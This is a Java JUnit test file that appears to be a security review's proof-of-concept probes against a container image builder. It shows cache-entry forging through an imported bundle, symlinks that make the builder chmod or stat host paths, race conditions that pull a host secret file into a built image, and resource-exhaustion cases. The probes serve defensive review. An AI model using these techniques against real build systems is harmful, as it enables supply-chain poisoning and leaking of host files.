package dev.davit.sandbox.build;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.davit.oci.build.BuildOptions;
import dev.davit.oci.build.LayerBuilder;
import dev.davit.oci.client.ClientOptions;
import dev.davit.oci.client.DavitClient;
import dev.davit.oci.containerfile.Containerfile;
import dev.davit.oci.copy.ProgressListener;
import dev.davit.oci.manifest.ImageManifest;
import dev.davit.oci.testkit.Tools;
import dev.davit.sandbox.ExecResult;
import dev.davit.sandbox.ImageConfig;
import dev.davit.sandbox.RunSpec;
import dev.davit.sandbox.RunTarget;
import dev.davit.sandbox.SandboxOptions;
import dev.davit.sandbox.Sandboxes;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ReviewProbeTest {
    private static final String BASE = "localhost/test/cf-base:1";
    @TempDir
    Path tmp;
    Path home;
    DavitClient client;
    Sandboxes sandboxes;

    @BeforeEach
    void base() throws Exception {
        Tools.assumeAvailable("bwrap", "busybox");
        home = tmp.resolve("home");
        Path src = tmp.resolve("base");
        Path bin = Files.createDirectories(src.resolve("bin"));
        Files.copy(Tools.which("busybox").orElseThrow(), bin.resolve("busybox"));
        for (String a : List.of("sh", "echo", "cat", "sleep", "true", "mkdir", "ls", "ln", "stat", "chown")) {
            Files.createSymbolicLink(bin.resolve(a), Path.of("busybox"));
        }
        for (String d : List.of("proc", "dev", "tmp", "etc")) {
            Files.createDirectories(src.resolve(d));
        }
        client = DavitClient.create(ClientOptions.anonymous(home.resolve("store")));
        client.build(src, BASE, BuildOptions.defaults(), ProgressListener.NONE);
        sandboxes = new Sandboxes(SandboxOptions.under(home));
    }

    private ContainerfileBuilder.Result build(String text, Path ctx, ContainerfileBuilder.Options o,
                                              String ref) {
        return new ContainerfileBuilder(client, sandboxes, home, s -> System.out.println("  say: " + s))
                .build(Containerfile.parse(text, "Containerfile"), ctx, ref, o);
    }

    private String run(String image, String... cmd) {
        RunTarget t = RunTarget.ofImage(client, home, image, null, null);
        RunSpec.Builder b = RunSpec.builder(t.rootfs()).image(t.image()).command(cmd);
        ExecResult r = sandboxes.run(b.build());
        assertThat(r.exitCode()).as(r.stderrText()).isZero();
        return r.stdoutText();
    }

    /** A bundle from an attacker names localhost/davit-build-cache:KEY; a later benign build takes its layer. */
    @Test
    void probe1_importedBundleForgesABuildCacheEntry() throws Exception {
        String cmd = "echo benign > /out";
        // --- the attacker: knows the public base image (its layer digests and config) and the victim's RUN line
        ImageManifest m = (ImageManifest) client.store().readManifest(client.store().entry(BASE).orElseThrow()
                .descriptor());
        StringBuilder layers = new StringBuilder();
        m.layers().forEach(l -> layers.append(l.digest()).append(' '));
        ImageConfig cfg = RunTarget.ofImage(client, home, BASE, null, null).image();
        List<String> key = new ArrayList<>(List.of("RUN", "net=none", "wd=/", "user=" + cfg.user()));
        key.add("layers=" + layers);
        key.add("argv=3");
        key.addAll(List.of("/bin/sh", "-c", cmd));
        Map<String, String> env = new LinkedHashMap<>();
        for (String kv : cfg.env()) {
            int eq = kv.indexOf('=');
            env.put(kv.substring(0, eq), kv.substring(eq + 1));
        }
        env.putIfAbsent("HOME", "/root");
        env.forEach((k, v) -> key.add("env=" + k + "=" + v));
        String k = BuildCache.key(key);
        DavitClient attacker = DavitClient.create(ClientOptions.anonymous(tmp.resolve("attacker/store")));
        Path evil = Files.createDirectories(tmp.resolve("evil"));
        Files.writeString(evil.resolve("out"), "EVIL layer from the attacker's bundle\n");
        LayerBuilder.Layer layer = new LayerBuilder(BuildOptions.defaults()).build(evil, attacker.store(),
                ProgressListener.NONE);
        new BuildCache(attacker.store()).put(k, layer, "forged");
        Path bundle = tmp.resolve("app-bundle.tar");
        attacker.export(List.of(BuildCache.REPOSITORY + ":" + k), bundle,
                dev.davit.oci.bundle.ExportOptions.defaults());
        // --- the victim imports the bundle (davit import app-bundle.tar) ...
        var imported = client.importBundle(bundle, dev.davit.oci.bundle.ImportOptions.defaults());
        System.out.println("imported: " + imported);
        // ... and later builds its own, benign Containerfile
        Path ctx = Files.createDirectories(tmp.resolve("ctx"));
        ContainerfileBuilder.Result r = build("FROM " + BASE + "\nRUN " + cmd + "\n", ctx,
                ContainerfileBuilder.Options.defaults(), "localhost/victim/app:1");
        System.out.println("steps: " + r.steps());
        String out = run("localhost/victim/app:1", "cat", "/out");
        System.out.println("PROBE1 /out of the victim's image: " + out);
        assertThat(out).contains("EVIL");
    }

    /** The cache key lacks the build time: a RUN layer clamped to one time is reused for a build with another. */
    @Test
    void probe2_cacheKeyIgnoresTheBuildTime() throws Exception {
        Path ctx = Files.createDirectories(tmp.resolve("ctx"));
        String file = "FROM " + BASE + "\nRUN echo x > /f\n";
        Instant t1 = Instant.parse("2001-01-01T00:00:00Z");
        ContainerfileBuilder.Result a = build(file, ctx, ContainerfileBuilder.Options.defaults().withCreated(t1),
                "localhost/p/a:1");
        String ma = run("localhost/p/a:1", "stat", "-c", "%Y", "/f");
        ContainerfileBuilder.Result b = build(file, ctx, ContainerfileBuilder.Options.defaults(), "localhost/p/b:1");
        String mb = run("localhost/p/b:1", "stat", "-c", "%Y", "/f");
        Instant t2 = Instant.parse("1995-06-01T00:00:00Z");
        ContainerfileBuilder.Result c = build(file, ctx, ContainerfileBuilder.Options.defaults().withCreated(t2),
                "localhost/p/c:1");
        String mc = run("localhost/p/c:1", "stat", "-c", "%Y", "/f");
        System.out.println("PROBE2 mtime with created=2001: " + ma.strip() + ", with no time (cached="
                + b.steps().get(1).cached() + "): " + mb.strip() + ", with created=1995 (cached="
                + c.steps().get(1).cached() + "): " + mc.strip() + " (1995-06-01 = " + t2.getEpochSecond() + ")");
        assertThat(mc.strip()).isEqualTo(ma.strip()); // 1995 asked for, 2001 given
    }

    /** COPY --from a stage: a link the RUN made is stat'ed on the HOST (Files.size follows it). */
    @Test
    void probe3_copyFollowsStageLinksOnTheHost() throws Exception {
        Path big = Path.of("/tmp/review-cf/big9g");
        try (var f = new java.io.RandomAccessFile(big.toFile(), "rw")) {
            f.setLength(9L << 30); // sparse
        }
        Path ctx = Files.createDirectories(tmp.resolve("ctx"));
        String file = "FROM " + BASE + " AS a\nRUN ln -s /tmp/review-cf/big9g /l && ln -s /nonexistent-review /d"
                + " && ln -s ../proc/self/mounts /etc/mtab\n"
                + "FROM " + BASE + "\nCOPY --from=a /l /l\n";
        assertThatThrownBy(() -> build(file, ctx, ContainerfileBuilder.Options.defaults(), "localhost/p/x:1"))
                .satisfies(e -> System.out.println("PROBE3 host-size link: " + e.getMessage()));
        assertThatThrownBy(() -> build(file.replace("COPY --from=a /l /l", "COPY --from=a /d /d"), ctx,
                ContainerfileBuilder.Options.defaults(), "localhost/p/x:1"))
                .satisfies(e -> System.out.println("PROBE3 dangling link: " + e.getMessage()));
        assertThatThrownBy(() -> build(file.replace("COPY --from=a /l /l", "COPY --from=a /etc/ /etc2/"), ctx,
                ContainerfileBuilder.Options.defaults(), "localhost/p/x:1"))
                .satisfies(e -> System.out.println("PROBE3 /etc/mtab: " + e.getMessage()));
        // the context too: a repository with a dangling link cannot be copied
        Files.createSymbolicLink(ctx.resolve("dangling"), Path.of("/nonexistent-review"));
        assertThatThrownBy(() -> build("FROM " + BASE + "\nCOPY . /app/\n", ctx,
                ContainerfileBuilder.Options.defaults(), "localhost/p/y:1"))
                .satisfies(e -> System.out.println("PROBE3 context: " + e.getMessage()));
        Files.deleteIfExists(big);
    }

    /** EnvBuilder.microVm's installGuest: a /.davit/run link the RUN made has the HOST's directory chmod'ed 0700. */
    @Test
    void probe4_installGuestChmodsAHostDirectory() throws Exception {
        Path victim = Files.createDirectories(Path.of("/tmp/review-cf/victim-dir"));
        Files.setAttribute(victim, "unix:mode", 0755);
        Path ctx = Files.createDirectories(tmp.resolve("ctx"));
        build("FROM " + BASE + "\nRUN mkdir /.davit && ln -s /tmp/review-cf/victim-dir /.davit/run\n", ctx,
                ContainerfileBuilder.Options.defaults(), "localhost/p/vm:1");
        // what EnvBuilder.microVm does before the kernel/mkfs: unpack, installGuest
        Path rootfs = tmp.resolve("work/rootfs");
        Files.createDirectories(rootfs.getParent());
        client.unpack("localhost/p/vm:1", rootfs);
        System.out.println("PROBE4 before: " + Integer.toOctalString((Integer) Files.getAttribute(victim,
                "unix:mode") & 07777));
        try {
            new dev.davit.sandbox.vm.VmImages(tmp.resolve("vmcache")).installGuest(rootfs);
        } catch (RuntimeException e) {
            System.out.println("PROBE4 installGuest threw " + e);
        }
        int after = (Integer) Files.getAttribute(victim, "unix:mode") & 07777;
        System.out.println("PROBE4 after: " + Integer.toOctalString(after));
        assertThat(after).isEqualTo(0700);
    }
    /** ADD of an ordinary tar of 300 small files: refused, the name budget is 4096 bytes in all. */
    @Test
    void probe6_addOfAnOrdinaryTarIsRefused() throws Exception {
        Path ctx = Files.createDirectories(tmp.resolve("ctx"));
        Path files = Files.createDirectories(tmp.resolve("files/src"));
        for (int i = 0; i < 300; i++) {
            Files.writeString(files.resolve("file-" + i + "-abcdefghij.txt"), "x");
        }
        int rc = new ProcessBuilder("tar", "-C", tmp.resolve("files").toString(), "-cf",
                ctx.resolve("src.tar").toString(), "src").inheritIO().start().waitFor();
        assertThat(rc).isZero();
        assertThatThrownBy(() -> build("FROM " + BASE + "\nADD src.tar /opt/\n", ctx,
                ContainerfileBuilder.Options.defaults(), "localhost/p/add:1"))
                .satisfies(e -> System.out.println("PROBE6 " + e.getMessage()));
    }
    /** A small gzip in the context, then trivial steps: each step's whole image unpacked again, and kept. */
    @Test
    void probe7_diskAmplification() throws Exception {
        Path ctx = Files.createDirectories(tmp.resolve("ctx"));
        Path files = Files.createDirectories(tmp.resolve("files"));
        try (var f = new java.io.RandomAccessFile(files.resolve("zeros").toFile(), "rw")) {
            f.setLength(64L << 20);
        }
        int rc = new ProcessBuilder("sh", "-c", "tar -C " + files + " -cf - zeros | gzip -9 > " + ctx.resolve("b.tgz"))
                .inheritIO().start().waitFor();
        assertThat(rc).isZero();
        StringBuilder f = new StringBuilder("FROM " + BASE + "\nADD b.tgz /opt/\n");
        for (int i = 0; i < 6; i++) {
            f.append("WORKDIR /w").append(i).append("\n");
        }
        f.append("RUN true\n");
        build(f.toString(), ctx, ContainerfileBuilder.Options.defaults(), "localhost/p/amp:1");
        Process du = new ProcessBuilder("sh", "-c", "ls -la " + ctx + "; du -sh " + home.resolve("rootfs") + "; ls " + home.resolve("rootfs") + " | wc -l").redirectErrorStream(true).start();
        System.out.println("PROBE7\n" + new String(du.getInputStream().readAllBytes()));
    }
    /** A context changed as it is read (a dir swapped for a link to a host dir): a host file in the image? */
    @Test
    void probe8_contextRace() throws Exception {
        Path secret = Files.createDirectories(Path.of("/tmp/review-cf/host-secret-dir"));
        Files.writeString(secret.resolve("host-secret.txt"), "HOST SECRET\n");
        Path ctx = Files.createDirectories(tmp.resolve("ctx"));
        Path dir = Files.createDirectories(tmp.resolve("spare-dir"));
        for (int i = 0; i < 50; i++) {
            Files.writeString(dir.resolve("f" + i), "x");
        }
        Path link = Files.createSymbolicLink(tmp.resolve("spare-link"), secret);
        java.util.concurrent.atomic.AtomicBoolean stop = new java.util.concurrent.atomic.AtomicBoolean();
        Thread flipper = new Thread(() -> {
            Path sub = ctx.resolve("sub");
            boolean isDir = false;
            while (!stop.get()) {
                try {
                    // sub becomes the dir, then the link, each with one rename
                    if (isDir) {
                        Files.move(sub, dir, java.nio.file.StandardCopyOption.ATOMIC_MOVE);
                        Files.move(link, sub, java.nio.file.StandardCopyOption.ATOMIC_MOVE);
                    } else {
                        if (Files.exists(sub, java.nio.file.LinkOption.NOFOLLOW_LINKS)) {
                            Files.move(sub, link, java.nio.file.StandardCopyOption.ATOMIC_MOVE);
                        }
                        Files.move(dir, sub, java.nio.file.StandardCopyOption.ATOMIC_MOVE);
                    }
                    isDir = !isDir;
                } catch (Exception e) {
                    // keep going
                }
            }
        });
        flipper.start();
        int won = -1;
        int tries = 0;
        try {
            for (int i = 0; i < 300 && won < 0; i++) {
                tries++;
                try {
                    build("FROM " + BASE + "\nCOPY . /app/\n", ctx, ContainerfileBuilder.Options.defaults()
                            .withNoCache(true), "localhost/p/race:" + i);
                } catch (RuntimeException e) {
                    continue;
                }
                Path r = RunTarget.ofImage(client, home, "localhost/p/race:" + i, null, null).rootfs();
                Path got = r.resolve("app/sub/host-secret.txt");
                if (Files.isDirectory(r.resolve("app/sub"), java.nio.file.LinkOption.NOFOLLOW_LINKS)
                        && Files.isRegularFile(got, java.nio.file.LinkOption.NOFOLLOW_LINKS)) {
                    won = i;
                    System.out.println("PROBE8 after " + tries + " builds, image localhost/p/race:" + i
                            + " has /app/sub/host-secret.txt = " + Files.readString(got).strip());
                }
            }
        } finally {
            stop.set(true);
            flipper.join();
        }
        System.out.println("PROBE8 tries=" + tries + " won=" + won);
    }
    /** A context changed as it is read: regular files swapped (renameat2 RENAME_EXCHANGE) with links to a host file. */
    @Test
    void probe9_contextFileRace() throws Exception {
        Path secret = Files.createDirectories(Path.of("/tmp/review-cf/host-secret-dir"));
        Files.writeString(secret.resolve("host-secret.txt"), "HOST SECRET\n");
        Path ctx = Files.createDirectories(tmp.resolve("ctx"));
        Path spare = Files.createDirectories(tmp.resolve("spare"));
        int n = 400;
        for (int i = 0; i < n; i++) {
            Files.writeString(ctx.resolve("f" + i), "ordinary\n");
            Files.createSymbolicLink(spare.resolve("l" + i), secret.resolve("host-secret.txt"));
        }
        Process flipper = new ProcessBuilder("python3", "/tmp/review-cf/flip.py", ctx.toString(), spare.toString(),
                Integer.toString(n)).inheritIO().start();
        int won = -1;
        int tries = 0;
        int failed = 0;
        try {
            for (int i = 0; i < 100 && won < 0; i++) {
                tries++;
                try {
                    build("FROM " + BASE + "\nCOPY . /app/\n", ctx, ContainerfileBuilder.Options.defaults()
                            .withNoCache(true), "localhost/p/race:" + i);
                } catch (RuntimeException e) {
                    failed++;
                    if (failed < 3) {
                        System.out.println("PROBE9 build failed: " + e.getMessage());
                    }
                    continue;
                }
                Path r = RunTarget.ofImage(client, home, "localhost/p/race:" + i, null, null).rootfs();
                for (int k = 0; k < n; k++) {
                    Path got = r.resolve("app/f" + k);
                    if (Files.isDirectory(r.resolve("app"), java.nio.file.LinkOption.NOFOLLOW_LINKS)
                            && Files.isRegularFile(got, java.nio.file.LinkOption.NOFOLLOW_LINKS)
                            && Files.readString(got).contains("HOST SECRET")) {
                        won = i;
                        System.out.println("PROBE9 after " + tries + " builds, image localhost/p/race:" + i
                                + " has the regular file /app/f" + k + " = " + Files.readString(got).strip());
                        break;
                    }
                }
            }
        } finally {
            flipper.destroy();
            flipper.waitFor();
        }
        System.out.println("PROBE9 tries=" + tries + " failed=" + failed + " won=" + won);
    }
    /** COPY of a deep tree: every copied directory's subtree walked again (depth x files). */
    @Test
    void probe10_quadraticWalk() throws Exception {
        for (int depth : new int[] {1, 100, 250}) {
            Path ctx = Files.createDirectories(tmp.resolve("ctx" + depth));
            Path d = ctx.resolve("t");
            for (int i = 0; i < depth; i++) {
                d = d.resolve("d");
            }
            Files.createDirectories(d);
            for (int i = 0; i < 20000; i++) {
                Files.createFile(d.resolve("f" + i));
            }
            long t0 = System.nanoTime();
            build("FROM " + BASE + "\nCOPY t /t\n", ctx, ContainerfileBuilder.Options.defaults(), "localhost/p/q:" + depth);
            System.out.println("PROBE10 depth " + depth + ", 20000 files: " + (System.nanoTime() - t0) / 1_000_000 + " ms");
        }
    }
}
